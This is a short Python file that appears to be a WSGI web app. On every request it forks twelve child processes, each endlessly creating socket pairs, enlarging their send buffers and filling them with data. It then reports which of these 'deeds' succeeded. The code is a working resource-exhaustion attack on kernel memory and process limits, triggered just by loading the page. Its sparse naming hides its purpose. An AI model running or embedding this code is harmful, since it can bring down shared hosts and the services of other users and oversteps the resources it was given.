import os
import socket
import time

HELD = []


def pairs():
    """Twelve processes, each with a hundred pairs, each with all that a pair takes."""
    for _ in range(12):
        if os.fork() == 0:
            while True:
                try:
                    ends = socket.socketpair()
                    HELD.append(ends)
                    for end in ends:
                        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                        end.setblocking(False)
                        while True:
                            end.send(b"x" * 65536)
                except BlockingIOError:
                    continue
                except OSError:
                    time.sleep(60)
    time.sleep(5)


def allowed(deed):
    try:
        return deed() is not False
    except Exception:
        return False


DEEDS = {
    "buffers": pairs,
}


def app(environ, start_response):
    got = [what for what, deed in DEEDS.items() if allowed(deed)]
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [("; ".join(got) or "ok").encode()]
